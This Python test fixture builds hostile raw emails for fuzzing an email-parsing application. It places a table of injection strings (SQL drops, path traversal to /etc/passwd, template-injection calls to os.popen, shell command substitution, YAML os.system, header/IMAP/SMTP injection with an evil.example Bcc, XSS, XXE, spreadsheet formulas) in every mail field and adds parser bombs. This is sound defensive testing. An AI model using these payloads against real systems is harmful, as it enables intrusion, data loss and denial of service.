"""Mails that nobody means well with: a table of named recipes, each a raw mail, the same in every run.

Two halves. Every hostile string of PAYLOADS stands in every place of PLACES of an otherwise honest interview
mail, so that it gets as far as a name or a subject ever gets: the database, the table, a notice, a draft, a
command to the server. And SHAPES, mails whose form is the attack: nesting, bombs, broken encodings.
"""
# ruff: noqa: E501 - a recipe is a line

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime

#: When every interview takes place, and when its mail was written.
INTERVIEW = datetime(2026, 11, 3, 3, 0, tzinfo=UTC)
WRITTEN = INTERVIEW - timedelta(days=4)
OWNER = "Sari Wulandari <sari@example.com>"

#: What a file would hold if one of the commands below were carried out.
CANARY = "torture-canary"

PAYLOADS: Mapping[str, str] = {
    "sql quote": "x'); DROP TABLE facts; --",
    "sql union": '" OR 1=1 UNION SELECT key, data FROM actions; --',
    "path up": "../../../../../../etc/passwd",
    "path windows": "..\\..\\C:\\Windows\\CON|NUL:x",
    "path absolute": "/dev/full/~root/$HOME",
    "zero byte": "PT A\0B\0",
    "format percent": "%s%s%s%n%(company)s%d%x",
    "format braces": "{} {0} {company} {0.__class__.__mro__} {{{",
    "template print": "{{ 7*191 }}{{ self.__init__.__globals__ }}",
    "template block": "{% for x in range(9**9) %}{{ x }}{% endfor %}",
    "template comment": "{# {{ role }} #} {% raw %}",
    "template include": "{% include '/etc/passwd' %}{{ lipsum.__globals__['os'].popen('id').read() }}",
    "shell": f"$(touch {CANARY}) `touch {CANARY}`; touch {CANARY} | touch {CANARY}",
    "yaml": '!!python/object/apply:os.system ["id"]',
    "terminal clear": "\x1b[2J\x1b[H\x1b[31mMERAH\x1b[0m",
    "terminal title": "\x1b]0;judul\x07\x1b]2;judul\x1b\\",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\klik\x1b]8;;\x1b\\",
    "terminal c1": "\x9b31mMERAH\x9d0;judul\x9c\x90q\x9c",
    "terminal answer": "\x1b[6n\x1b[c\x05\x1bP+q544e\x1b\\",
    "backspace": "Baik\b\b\b\bBuruk\x7f\x7f\r\x0b\x0c",
    "bidi": "PT \u202egpj.exe\u202c \u2066x\u2069\u200f",
    "zero width": "P\u200bT\u2060 Ma\u00adju\ufeff\u180e",
    "tags": "PT \U000e0041\U000e0042 \ufff9a\ufffab\ufffb",
    "confusables": "РТ Маju Вersama рaypаl.com",
    "combining": "Z" + "\u0300\u0301\u0489" * 200 + "algo",
    "emoji": "PT 👨‍👩‍👧‍👦🏳️‍🌈 " + "👩🏽‍🚀" * 40,
    "halves": "PT \ud800 \udfff \udc80x",
    "line ends": "PT A\x85B\u2028C\u2029D\x1cE\x1dF\x1eG",
    "header": "x\r\nBcc: korban@evil.example\r\nX-Injected: yes\r\n\r\nisi lain",
    "header lf": "x\nBcc: korban@evil.example\nSubject: lain",
    "header cr": "x\rBcc: korban@evil.example",
    "imap command": 'x"\r\nX1 DELETE INBOX\r\nX2 LOGOUT\r\n',
    "imap literal": "x {9999}\r\n",
    "imap syntax": 'x" (\\Deleted \\Seen) "* %\\',
    "smtp dot": "x\r\n.\r\nMAIL FROM:<a@b>\r\n.",
    "markup": "<b>tebal</b> &amp; <a href='https://evil.example'>klik</a><img src=\"file:///etc/passwd\">",
    "script": "<script>alert(1)</script><svg/onload=alert(1)>\"'>",
    "entities": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;&#27;[31m&#x202e;",
    "rich": "[bold red]MERAH[/] [link=https://evil.example]x[/link] :warning:",
    "spreadsheet": "=cmd|' /C calc'!A0 +1 @SUM(1)",
    "encoded words": "=?utf-8?b?PGI+?= =?utf-8?q?=0D=0ABcc:_x@evil.example?= =?x?y?z?=",
    "long word": "A" * 4000,
    "long text": "kata lagi " * 900,
    "brackets": "((((((((((<<<<<<<<<<[[[[[[[[[[" * 60,
    "quotes": "\"'`\\\"'`\\" * 200,
    "number": "9" * 500 + "e999 -0 NaN 1e400",
    "right to left": "شركة النجاح للتوظيف العالمية 1234",
    "mail in a name": "hr@bank.example <sari@example.com>, <x@evil.example>",
    "uri": "javascript:alert(1)//mailto:x@evil.example?bcc=korban@evil.example",
}


def word(text: str) -> str:
    """`text` as encoded words (RFC 2047), each short enough for a line: so anything can stand in a header."""
    data = text.encode("utf-8", "surrogatepass")
    pieces = [data[start : start + 42] for start in range(0, len(data), 42)] or [b""]
    return "\r\n ".join(f"=?utf-8?b?{base64.b64encode(piece).decode()}?=" for piece in pieces)


@dataclass(frozen=True, slots=True, kw_only=True)
class Letter:
    """An interview that is confirmed, with a place for each word of it. `number` keeps the mails apart."""

    number: int
    company: str = ""
    role: str = "Data Analyst"
    person: str = "Rina Wati"
    subject: str = ""
    sender: str = ""
    to: str = OWNER
    message_id: str = ""
    headers: tuple[str, ...] = ()
    more: bytes = b""  # further parts
    html: str = ""

    @property
    def raw(self) -> bytes:
        """The mail."""
        n, company = self.number, self.company or f"PT Maju{self.number} Jaya"
        text = (
            f"Dear Sari,\n\nThank you for your application for the {self.role} position at {company}. This is to"
            f" confirm your interview for the {self.role} position at {company} on Tuesday, 3 November 2026,"
            f" 10:00 - 11:00 WIB.\n\nKind regards,\n{self.person}\n{company}\n"
        )
        head = [
            f"Received: from mail.maju{n}.example by mx.example.com; {format_datetime(WRITTEN)}",
            *self.headers,
            f"From: {self.sender or f'Rina Wati <rina@maju{n}.example>'}",
            f"To: {self.to}",
            f"Date: {format_datetime(WRITTEN)}",
            f"Subject: {self.subject or f'Interview confirmation - {self.role} - {company}'}",
            f"Message-ID: {self.message_id or f'<torture{n}@maju{n}.example>'}",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="tepi"',
        ]
        parts = [
            b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + data(text)
        ]
        if self.html:
            parts = [
                b"Content-Type: text/html; charset=utf-8\r\n\r\n"
                + data(text.replace("\n", "<br>") + self.html)
            ]
        parts += [self.more] if self.more else []
        body = b"".join(b"--tepi\r\n" + part + b"\r\n" for part in parts) + b"--tepi--\r\n"
        return data("\r\n".join(head)) + b"\r\n\r\n" + body


def data(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _invitation(n: int, text: str) -> bytes:
    """A calendar part with `text` in every field that is text."""
    line = text.replace("\r", " ").replace("\n", "\\n")
    return data(
        "Content-Type: text/calendar; charset=utf-8; method=REQUEST\r\n\r\n"
        f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:{line}\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:{n}-{line}\r\n"
        "DTSTAMP:20261029T030000Z\r\nDTSTART:20261103T030000Z\r\nDTEND:20261103T040000Z\r\n"
        f"SUMMARY:Interview {line}\r\nLOCATION:{line}\r\nDESCRIPTION:{line}\r\n"
        f'ORGANIZER;CN="{line}":mailto:rina@maju{n}.example\r\nEND:VEVENT\r\nEND:VCALENDAR'
    )


def _attached(name: str) -> bytes:
    return data(
        f'Content-Type: application/zip; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\nPK'
    ) + bytes([3, 4])


#: Where a hostile string may stand: (number of the mail, string) -> the mail.
PLACES: Mapping[str, Callable[[int, str], Letter]] = {
    "subject": lambda n, text: Letter(number=n, subject=word(f"Interview {text}")),
    "bare subject": lambda n, text: Letter(number=n, subject=f"Interview {text}"),
    "name": lambda n, text: Letter(number=n, sender=f"{word(text)} <rina@maju{n}.example>", person=text),
    "quoted name": lambda n, text: Letter(number=n, sender=f'"{text}" <rina@maju{n}.example>'),
    "address": lambda n, text: Letter(number=n, sender=f"Rina Wati <{text}@maju{n}.example>"),
    "receiver": lambda n, text: Letter(number=n, to=f"{word(text)} <sari@example.com>, {word(text)} <b@maju{n}.example>"),
    "reply-to": lambda n, text: Letter(number=n, headers=(f"Reply-To: {word(text)} <balas@maju{n}.example>",)),
    "message-id": lambda n, text: Letter(number=n, message_id=f"<{text}.{n}@maju{n}.example>"),
    "references": lambda n, text: Letter(number=n, headers=(f"References: <{text}@x.example> <a{n}@x.example>", f"In-Reply-To: <{text}>")),
    "company": lambda n, text: Letter(number=n, company=f"PT {text} {n}"),
    "role": lambda n, text: Letter(number=n, role=f"Analyst {text}", subject=word(f"Interview - Analyst {text}")),
    "signature": lambda n, text: Letter(number=n, person=text),
    "file name": lambda n, text: Letter(number=n, more=_attached(text)),
    "calendar": lambda n, text: Letter(number=n, more=_invitation(n, text)),
    "html": lambda n, text: Letter(number=n, html=f'<p title="{text}">{text}</p><a href="{text}">{text}</a>'),
    "other headers": lambda n, text: Letter(number=n, headers=tuple(f"{name}: {word(text)}" for name in ("Sender", "List-Id", "X-Mailer", "Auto-Submitted", "Authentication-Results", "Organization"))),
}  # fmt: skip


# --------------------------------------------------------------------------- the form is the attack

_HEAD = b"From: Rina Wati <rina@maju.example>\nTo: sari@example.com\nSubject: Interview\nMessage-ID: <%s@maju.example>\n"
_MB = 1024 * 1024


def _mail(name: str, *lines: bytes) -> bytes:
    return _HEAD % name.replace(" ", "-").encode() + b"\n".join(lines)


def _nested(kind: bytes, levels: int) -> bytes:
    return b"".join(b"Content-Type: %s; boundary=b%d\n\n--b%d\n" % (kind, n, n) for n in range(levels))


def _calendar(*lines: bytes) -> bytes:
    event = b"\n".join((b"BEGIN:VEVENT", b"UID:x", b"DTSTART:20261103T030000Z", *lines, b"END:VEVENT"))
    return (
        b"Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\n"
        + event
        + b"\nEND:VCALENDAR"
    )


def _html(body: bytes) -> bytes:
    return b"Content-Type: text/html; charset=utf-8\n\n<p>Interview on Tuesday</p>" + body


def _coded(how: bytes, body: bytes) -> bytes:
    return b"Content-Transfer-Encoding: " + how + b"\n\n" + body


def _zone(number: int) -> bytes:
    rules = b"BEGIN:STANDARD\nDTSTART:19700101T000000\nRRULE:FREQ=SECONDLY\nTZOFFSETFROM:+0700\nTZOFFSETTO:+0800\nEND:STANDARD\n"
    return b"BEGIN:VTIMEZONE\nTZID:Z%d\n" % number + rules * 40 + b"END:VTIMEZONE\n"


def _chance(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


_CHARSETS = "utf-7 utf-16 utf-32 utf-8-sig hz gb2312 gb18030 big5 euc-kr shift_jis iso-2022-jp iso-2022-kr koi8-r windows-1252 windows-1256 macroman idna punycode unicode_escape raw_unicode_escape rot13 zlib base64 hex bz2 uu undefined mbcs cp65001 x-unknown ../etc/passwd %s us-ascii;x".split()
_RULES = "SECONDLY MINUTELY HOURLY DAILY;INTERVAL=0 DAILY;COUNT=999999999 YEARLY;BYSECOND=0,1,2;BYMINUTE=0;BYHOUR=1 DAILY;UNTIL=99991231T235959Z WEEKLY;BYDAY=99MO X;X=X".split()
_TIMES = "00000000T000000 99991231T235959Z 20261399T996199 20261103T030000ZZZ -1 20261103 20261103T24 1e9 TZID".split()
_DATES = ("Thu, 32 Foo 99999 99:99:99 +9999", "1 Jan 0000 00:00:00 -0000", "31 Dec 9999 23:59:59 -2400", "9" * 5000, "Mon, 2 Nov 2026 10:00:00 +" + "9" * 400, "", "\0", "2026", "Tue, 29 Feb 2027 10:00:00 +0700", "Sun, 25 Oct 2026 02:30:00 (((((")  # fmt: skip
_BOMBS: Mapping[str, bytes] = {
    "divs": b"<div>" * 200_000,
    "closing divs": b"</div>" * 200_000,
    "tables": b"<table><tr><td>" * 60_000,
    "blockquotes": b"<blockquote>" * 80_000 + b"x",
    "comments never closed": b"<!--" * 100_000,
    "tags never closed": b"<a " * 200_000,
    "attributes": b"<p " + b"a=1 " * 200_000 + b">x",
    "one attribute": b"<p title='" + b"x" * 900_000 + b"'>x",
    "quotes in a tag": b'<p title="' * 80_000,
    "entities": b"&amp;" * 150_000,
    "entities without end": b"&" * 500_000,
    "large numbers": b"&#" + b"9" * 300_000 + b";&#x110000;&#0;&#xd800;",
    "styles": b"<style>" + b"p{display:none}" * 50_000 + b"</style>x",
    "hidden": b"<div style=display:none>" * 30_000 + b"x",
    "scripts": b"<script>" * 90_000,
    "links": b"<a href=https://x.example/%s>x</a>" * 20_000,
    "data": b"<img src='data:image/png;base64," + b"A" * 900_000 + b"'>",
    "cdata": b"<![CDATA[" * 80_000 + b"<!" * 80_000 + b"<?" * 80_000,
    "angle brackets": b"<" * 900_000,
    "breaks": b"<br>" * 200_000,
    "spaces": b" \t\n" * 300_000,
    "zero bytes": b"\0<\0p\0>" * 100_000,
    "lists": b"<ul><li>" * 90_000,
    "select": b"<select><option>" * 50_000,
}


def _shapes() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """The second half: name -> the mail, built when asked for."""
    kinds = (
        "multipart/mixed",
        "multipart/alternative",
        "multipart/related",
        "multipart/digest",
        "multipart/report",
        "multipart/signed",
    )
    for kind in kinds:
        for levels in (20, 500, 5000):
            yield (
                f"{levels} levels of {kind}",
                lambda k=kind, n=levels: _mail("levels", _nested(k.encode(), n), b"x"),
            )
    for charset in _CHARSETS:
        yield (
            f"charset {charset}",
            lambda c=charset: _mail(
                "charset",
                b"Content-Type: text/plain; charset=" + c.encode(),
                b"",
                b"+AGEAYg- \xff\xfe\x1b$B " * 9000,
            ),
        )
        yield (
            f"charset of words {charset}",
            lambda c=charset: (
                b"Subject: "
                + (b"=?" + c.encode() + b"?b?/////w==?= ") * 60
                + b"\nFrom: a@x.example\n\nInterview"
            ),
        )
    for name, body in _BOMBS.items():
        yield f"html {name}", lambda b=body: _mail("html", _html(b))
        yield f"text of html {name}", lambda b=body: _mail("text", b"", b)
    for rule in _RULES:
        yield f"rule {rule}", lambda r=rule: _mail("rule", _calendar(b"RRULE:FREQ=" + r.encode()))
    for moment in _TIMES:
        yield (
            f"calendar time {moment}",
            lambda m=moment: _mail(
                "time",
                _calendar(
                    b"DTSTART:" + m.encode(), b'DTEND;TZID="../x":' + m.encode(), b"DURATION:P99999999999W"
                ),
            ),
        )
    for number, moment in enumerate(_DATES):
        yield (
            f"date {number}",
            lambda m=moment: (
                b"Date: "
                + m.encode()
                + b"\n"
                + b"Received: x; "
                + m.encode()
                + b"\n"
                + _mail(
                    "date", b"", b"Interview on 31 February 2026 at 25:61, 99/99/9999, " + m.encode()[:200]
                )
            ),
        )
    for number in range(12):
        yield f"chance {number}", lambda n=number: _chance(n, 20_000)
        yield f"a mail damaged by chance {number}", lambda n=number: _damaged(n)
    for length in (0, 1, 7, 60, 120, 300, 700):
        yield f"cut off after {length}", lambda n=length: Letter(number=0).raw[:n]
    for name in ("From", "To", "Subject", "Message-ID", "References", "In-Reply-To", "Date", "Received", "Content-Type", "Reply-To", "Authentication-Results", "List-Unsubscribe"):  # fmt: skip
        yield (
            f"{name} of a megabyte",
            lambda h=name: h.encode() + b": " + b"<a@b.example>, " * 70_000 + b"\n" + _mail("big", b"", b"x"),
        )
        yield (
            f"{name} a thousand times",
            lambda h=name: (h.encode() + b": <a@b.example>\n") * 1000 + _mail("often", b"", b"x"),
        )
        yield (
            f"{name} of encoded words",
            lambda h=name: (
                h.encode() + b": " + b"=?utf-8?q?=3C=0D=0A?=\n " * 4000 + b"x\n" + _mail("words", b"", b"x")
            ),
        )
    yield from _ODDITIES.items()


def _damaged(seed: int) -> bytes:
    chance, raw = (
        random.Random(seed),
        bytearray(Letter(number=0, more=_invitation(0, "x"), html="<p>x</p>").raw),
    )
    for _ in range(40):
        raw[chance.randrange(len(raw))] = chance.randrange(256)
    return bytes(raw)


_ODDITIES: Mapping[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "zero bytes only": lambda: b"\0" * _MB,
    "line ends only": lambda: b"\r\n" * 500_000,
    "carriage returns only": lambda: b"\r" * 500_000,
    "mixed line ends": lambda: Letter(number=0).raw.replace(b"\r\n", b"\r", 3).replace(b"\r\n", b"\n", 5),
    "one line of a megabyte": lambda: _mail("line", b"", b"x" * _MB),
    "one word of dates": lambda: _mail("dates", b"", b"3/11/2026-10:00/" * 60_000),
    "dates": lambda: _mail("dates", b"", b"Interview Tuesday 3 November 2026 at 10:00 - 11:00 WIB, or Wed 4 Nov 2pm. " * 3000),
    "dates without blanks": lambda: _mail("dates", b"", b"Tuesday3November2026at10:00WIB" * 8000),
    "numbers": lambda: _mail("numbers", b"", b"1234567890 " * 80_000),
    "colons": lambda: _mail("colons", b"", b"10:10:10:10:" * 40_000),
    "ranges": lambda: _mail("ranges", b"", b"10.00-11.00-12.00-" * 20_000),
    "deep quoting": lambda: _mail("quoting", b"", b"".join(b">" * (n % 400) + b" Interview on Tuesday\n" for n in range(4000))),
    "quoting in quoting": lambda: _mail("quoting", b"", b"".join(b"> " * n + b"On 1 Nov 2026, A <a@x.example> wrote:\n" for n in range(300))),
    "attributions": lambda: _mail("attributions", b"", b"On Mon, 2 Nov 2026 at 10:00, A <a@x.example> wrote:\n" * 9000),
    "forwarded again and again": lambda: _mail("forwarded", b"", b"---------- Forwarded message ---------\nFrom: a@x.example\nDate: Mon, 2 Nov 2026\nSubject: Interview\n\n" * 4000),
    "signatures": lambda: _mail("signatures", b"", b"-- \nRina\nPT Maju\n\n" * 9000),
    "names": lambda: _mail("names", b"", b"Kind regards,\nRina Wati\nHR Manager\nPT Maju Jaya\n\n" * 5000),
    "companies": lambda: _mail("companies", b"", b"PT Maju Jaya Tbk di PT Maju Mundur Ltd GmbH " * 6000),
    "promises": lambda: _mail("promises", b"", b"We will let you know within two weeks after the interview by Friday. " * 4000),
    "negations": lambda: _mail("negations", b"", b"if you are not unless selected if we do not, " * 6000),
    "questions": lambda: _mail("questions", b"", b"Could you send your CV? When are you free? " * 5000),
    "every letter of unicode": lambda: _mail("unicode", b"Content-Type: text/plain; charset=utf-8", b"", "".join(map(chr, range(0x20, 0xD800))).encode()),
    "combining marks": lambda: _mail("combining", b"Content-Type: text/plain; charset=utf-8", b"", ("a" + "\u0301" * 100_000).encode()),
    "letters that grow": lambda: _mail("grow", b"Content-Type: text/plain; charset=utf-8", b"", ("\ufdfa\u0130\u1e9e" * 40_000).encode()),
    "right to left text": lambda: _mail("rtl", b"Content-Type: text/plain; charset=utf-8", b"", ("\u202e\u0645\u0642\u0627\u0628\u0644\u0629 " * 20_000).encode()),
    "long addresses": lambda: b"From: " + b"a" * 60_000 + b"@" + b"b." * 30_000 + b"example\n" + _mail("address", b"", b"x"),
    "a domain of dots": lambda: b"From: a@" + b"." * 60_000 + b"\n" + _mail("dots", b"", b"x"),
    "addresses in groups": lambda: b"To: " + b"g: a@x.example, b@x.example;, " * 30_000 + b"\n" + _mail("groups", b"", b"x"),
    "comments in addresses": lambda: b"To: " + b"(" * 60_000 + b")" * 60_000 + b"a@x.example\n" + _mail("comments", b"", b"x"),
    "references": lambda: b"References: " + b"".join(b"<%d@x.example>\n " % n for n in range(9000)) + b"\n" + _mail("references", b"", b"x"),
    "references of brackets": lambda: b"References: " + b"<" * 60_000 + b">" * 60_000 + b"\n" + _mail("references", b"", b"x"),
    "a hundred thousand headers": lambda: b"".join(b"X-%d: x\n" % n for n in range(100_000)) + _mail("headers", b"", b"x"),
    "headers without values": lambda: b"X:\n" * 100_000 + _mail("headers", b"", b"x"),
    "lines that are no headers": lambda: b"no colon here\n" * 60_000 + _mail("headers", b"", b"x"),
    "folded for ever": lambda: b"X-Folded: x" + b"\n x" * 200_000 + b"\n" + _mail("folded", b"", b"x"),
    "a header of blanks": lambda: b"Subject:" + b" " * 500_000 + b"\n" + _mail("blanks", b"", b"x"),
    "received by ten thousand": lambda: b"Received: from a by b; Mon, 2 Nov 2026 10:00:00 +0700\n" * 10_000 + _mail("received", b"", b"x"),
    "authentication results": lambda: b"Authentication-Results: x; " + b"dkim=pass (((( header.d=x; " * 4000 + b"\n" + _mail("results", b"", b"x"),
    "continuations out of order": lambda: _mail("2231", b"Content-Type: text/plain; " + b"; ".join(b"name*%d*=%%41" % n for n in range(4000, 0, -1)), b"", b"x"),
    "continuations of one number": lambda: _mail("2231", b"Content-Type: text/plain; " + b"name*0=a; " * 4000, b"", b"x"),
    "continuations with large numbers": lambda: _mail("2231", b"Content-Type: text/plain; name*" + b"9" * 5000 + b"*=x; name*-1=x; name*x=y", b"", b"x"),
    "continuations in percent": lambda: _mail("2231", b"Content-Disposition: attachment; filename*=utf-8''" + b"%F0%9F%98%80" * 5000 + b"%", b"", b"x"),
    "parameters": lambda: _mail("parameters", b"Content-Type: text/plain; " + b'a="b;' * 20_000, b"", b"x"),
    "a boundary of nothing": lambda: _mail("boundary", b"Content-Type: multipart/mixed; boundary=\"\"", b"", b"--\n" * 100_000),
    "a boundary of quotes": lambda: _mail("boundary", b"Content-Type: multipart/mixed; boundary=\"\\\"", b"", b"--\"\nx\n" * 1000),
    "a boundary of patterns": lambda: _mail("boundary", b"Content-Type: multipart/mixed; boundary=\"(a+)+$\"", b"", b"--(a+)+$\n" + b"--" + b"a" * 100_000),
    "a long boundary": lambda: _mail("boundary", b"Content-Type: multipart/mixed; boundary=" + b"b" * 50_000, b"", b"--" + b"b" * 50_000 + b"\n\nx"),
    "parts without end": lambda: _mail("parts", b"Content-Type: multipart/mixed; boundary=b", b"", b"--b\n" * 400_000),
    "parts with headers only": lambda: _mail("parts", b"Content-Type: multipart/mixed; boundary=b", b"", b"--b\nContent-Type: text/plain\n\n" * 30_000),
    "attachments": lambda: _mail("attachments", b"Content-Type: multipart/mixed; boundary=b", b"", b"--b\nContent-Disposition: attachment; filename=a.zip\n\nPK\n" * 20_000),
    "mails in mails": lambda: _mail("mails", b"Content-Type: message/rfc822\n\n" * 20_000, b"x"),
    "a boundary that repeats": lambda: _mail("repeats", b"Content-Type: multipart/mixed; boundary=b", b"", b"--b\nContent-Type: multipart/mixed; boundary=b\n\n" * 4000),
    "a mail that includes itself": lambda: _mail("partial", b"Content-Type: message/partial; id=x; number=1; total=999999999", b"", b"x"),
    "a mail that lies elsewhere": lambda: _mail("external", b"Content-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"", b"", b"Content-Type: text/plain\n\nx"),
    "a delivery report of a megabyte": lambda: _mail("report", b"Content-Type: multipart/report; report-type=delivery-status; boundary=b", b"", b"--b\nContent-Type: message/delivery-status\n\n" + b"Final-Recipient: rfc822; a@x.example\nAction: failed\nStatus: 5.1.1\n\n" * 12_000),
    "winmail": lambda: _mail("tnef", b"Content-Type: application/ms-tnef; name=winmail.dat", b"", _chance(3, 100_000)),
    "a zip": lambda: _mail("zip", b"Content-Type: application/zip; name=cv.zip", _coded(b"base64", base64.encodebytes(b"PK\3\4" + _chance(4, 200_000)))),
    "base64 without end": lambda: _mail("base64", _coded(b"base64", b"QUJD" * 500_000)),
    "base64 of bad letters": lambda: _mail("base64", _coded(b"base64", b"=*&^%$#@!=" * 100_000)),
    "base64 in lines of one": lambda: _mail("base64", _coded(b"base64", b"Q\n" * 500_000)),
    "base64 in base64": lambda: _mail("base64", _coded(b"base64", base64.encodebytes(base64.encodebytes(b"Interview " * 20_000)))),
    "quoted-printable": lambda: _mail("qp", _coded(b"quoted-printable", b"=3D=\n" * 300_000)),
    "quoted-printable of bad letters": lambda: _mail("qp", _coded(b"quoted-printable", b"=ZZ==\n=\n=0" * 100_000)),
    "uuencode": lambda: _mail("uu", _coded(b"x-uuencode", b"begin 644 ../../x\n" + b"#0V%T\n" * 200_000)),
    "yenc": lambda: _mail("yenc", _coded(b"x-yenc", b"=ybegin line=128 size=999999999999 name=x\n" + b"\xff" * 100_000)),
    "binhex": lambda: _mail("hqx", _coded(b"binhex40", b"(This file must be converted with BinHex 4.0)\n:" + b"x" * 100_000)),
    "an encoding that is none": lambda: _mail("encoding", _coded(b"\0../x", b"Interview")),
    "calendar summary of a megabyte": lambda: _mail("ics", _calendar(b"SUMMARY:" + b"x" * _MB)),
    "calendar of folded lines": lambda: _mail("ics", _calendar(b"SUMMARY:x" + b"\n x" * 200_000)),
    "calendar of events": lambda: _mail("ics", _calendar(b"END:VEVENT\nBEGIN:VEVENT\nUID:y\nDTSTART:20261103T030000Z\n" * 9000)),
    "calendar of calendars": lambda: _mail("ics", _calendar(b"BEGIN:VCALENDAR\n" * 20_000)),
    "calendar of alarms": lambda: _mail("ics", _calendar(b"BEGIN:VALARM\nTRIGGER:-PT1S\nREPEAT:999999999\nDURATION:PT1S\nEND:VALARM\n" * 5000)),
    "calendar of guests": lambda: _mail("ics", _calendar(b"ATTENDEE;CN=x:mailto:a@x.example\n" * 9000)),
    "calendar of extra dates": lambda: _mail("ics", _calendar(b"RDATE:" + b"20261103T030000Z," * 30_000)),
    "calendar parameters": lambda: _mail("ics", _calendar(b"ORGANIZER" + b";X=\"a\"" * 40_000 + b":mailto:a@x.example")),
    "calendar quotes": lambda: _mail("ics", _calendar(b"ORGANIZER;CN=\"" * 20_000)),
    "calendar attachment": lambda: _mail("ics", _calendar(b"ATTACH;ENCODING=BASE64;VALUE=BINARY:" + b"QUJD" * 100_000)),
    "calendar of another kind": lambda: _mail("ics", b"Content-Type: text/calendar\n\n" + _chance(5, 100_000)),
    "zones": lambda: _mail("ics", b"Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\n" + b"".join(map(_zone, range(60))) + b"BEGIN:VEVENT\nUID:x\nDTSTART;TZID=Z1:20261103T100000\nEND:VEVENT\nEND:VCALENDAR"),
    "one zone that changes every second": lambda: _mail("ics", b"Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\n" + _zone(1) + b"BEGIN:VEVENT\nUID:x\nDTSTART;TZID=Z1:20261103T100000\nDTEND;TZID=Z1:20261103T110000\nEND:VEVENT\nEND:VCALENDAR"),
    "a zone of a million years": lambda: _mail("ics", b"Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nBEGIN:VTIMEZONE\nTZID:Q\nBEGIN:STANDARD\nDTSTART:00010101T000000\nRRULE:FREQ=YEARLY\nTZOFFSETFROM:+999999\nTZOFFSETTO:-999999\nEND:STANDARD\nEND:VTIMEZONE\nBEGIN:VEVENT\nUID:x\nDTSTART;TZID=Q:99991103T100000\nEND:VEVENT\nEND:VCALENDAR"),
    "a zone that is a path": lambda: _mail("ics", _calendar(b"DTSTART;TZID=../../../../etc/passwd:20261103T100000")),
    "backtracking": lambda: _mail("backtracking", b"", b"a" * 40_000 + b"!" + b" wrote" * 5000 + b"@" * 20_000),
    "words without end": lambda: _mail("words", b"", b"interview" * 100_000),
    "links": lambda: _mail("links", b"", b"https://x.example/" * 40_000),
    "link of brackets": lambda: _mail("links", b"", b"http://x/" + b"(" * 100_000),
    "phone numbers": lambda: _mail("phones", b"", b"+62 812-3456-7890 (0812) " * 20_000),
    "money": lambda: _mail("money", b"", b"Transfer Rp 5.000.000,- to +1 000 000 USD fee " * 8000),
    "twenty megabytes of text": lambda: _mail("large", b"", b"Interview on Tuesday 3 November 2026 at 10:00.\n" * 420_000),
    "twenty megabytes of attachment": lambda: _mail("large", b"Content-Type: multipart/mixed; boundary=b", b"", b"--b\n\nInterview\n--b\nContent-Disposition: attachment; filename=a.zip\nContent-Transfer-Encoding: base64\n\n" + b"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVowMTIzNDU2Nzg5\n" * 420_000 + b"--b--"),
}  # fmt: skip


def _recipes() -> dict[str, Callable[[], bytes]]:
    found: dict[str, Callable[[], bytes]] = {}
    for number, (place, what) in enumerate((place, what) for place in PLACES for what in PAYLOADS):
        found[f"{what} as {place}"] = lambda n=number, p=place, w=what: PLACES[p](n, PAYLOADS[w]).raw
    return found


#: Honest mails with a hostile string in one place.
POISONED: Mapping[str, Callable[[], bytes]] = _recipes()
#: Strings that are tried in every place, also where only some mails are tried.
KEEN = ("encoded words", "header", "imap command", "terminal c1", "template print")


def some(stride: int) -> tuple[Callable[[], bytes], ...]:
    """Each so manieth of the poisoned mails (prime to the number of strings: each string somewhere), and the keen
    ones in every place."""
    keen = (f"{what} as {place}" for place in PLACES for what in KEEN)
    return tuple(
        {**dict(list(POISONED.items())[::stride]), **{name: POISONED[name] for name in keen}}.values()
    )


#: Mails whose form is the attack.
SHAPES: Mapping[str, Callable[[], bytes]] = dict(_shapes())
#: All of them.
RECIPES: Mapping[str, Callable[[], bytes]] = {**POISONED, **SHAPES}
